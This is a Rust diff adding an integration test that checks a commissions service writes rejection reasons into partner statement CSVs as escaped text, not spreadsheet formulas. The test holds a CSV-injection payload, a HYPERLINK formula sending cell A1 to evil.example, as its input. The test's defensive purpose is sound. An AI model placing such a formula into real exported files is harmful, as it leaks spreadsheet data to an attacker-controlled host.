@@ -861,3 +861,70 @@ mod secrets_at_rest {
         super::the_moyasar_secret_is_stored_nowhere_and_rotates(super::Engine::Postgres).await;
     }
 }
+
+// ---------------------------------------------------------------------------------------------
+// Item 5: a statement's CSV cannot carry a formula to a spreadsheet.
+
+async fn a_rejection_reason_reaches_the_statement_csv_as_text_not_a_formula(engine: Engine) {
+    let Some(app) = crate::app::spawn_app(engine).await else {
+        return;
+    };
+    let (commission_id, _) = crate::finance_api::accrue(&app, "p-csv", "csv-lead").await;
+    let reason = r#"=HYPERLINK("http://evil.example/?x="&A1,"Click")"#;
+    let answer = app
+        .request(
+            "POST",
+            &format!("/api/commissions/{commission_id}/reject"),
+            &admin_json(),
+            json!({"reason": format!("{reason}\rsecond line")})
+                .to_string()
+                .as_bytes(),
+        )
+        .await;
+    assert_eq!(answer.status, 200, "{}", answer.text);
+    app.settle().await;
+    // The rejection is a line of the month it happened in (now), not of the accrual's.
+    let now = time::OffsetDateTime::now_utc();
+    let this_month = format!("{:04}-{:02}", now.year(), u8::from(now.month()));
+    let csv = app
+        .get(
+            &format!("/api/partners/p-csv/statements/{this_month}.csv"),
+            Some(ADMIN_TOKEN),
+        )
+        .await;
+    assert_eq!(csv.status, 200, "{}", csv.text);
+    let mut reader = ::csv::ReaderBuilder::new().from_reader(csv.text.as_bytes());
+    let references: Vec<String> = reader
+        .records()
+        .map(|record| record.unwrap()[3].to_owned())
+        .collect();
+    let rejected = references
+        .iter()
+        .find(|reference| reference.contains("HYPERLINK"))
+        .unwrap_or_else(|| panic!("the reason is in the CSV: {}", csv.text));
+    assert_eq!(rejected, &format!("'{reason}\rsecond line"));
+    assert!(
+        !csv.text.lines().any(|line| line.starts_with('=')),
+        "{}",
+        csv.text
+    );
+    app.stop().await;
+}
+
+mod csv_injection {
+    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+    async fn sqlite_a_rejection_reason_reaches_the_statement_csv_as_text_not_a_formula() {
+        super::a_rejection_reason_reaches_the_statement_csv_as_text_not_a_formula(
+            super::Engine::Sqlite,
+        )
+        .await;
+    }
+
+    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+    async fn postgres_a_rejection_reason_reaches_the_statement_csv_as_text_not_a_formula() {
+        super::a_rejection_reason_reaches_the_statement_csv_as_text_not_a_formula(
+            super::Engine::Postgres,
+        )
+        .await;
+    }
+}
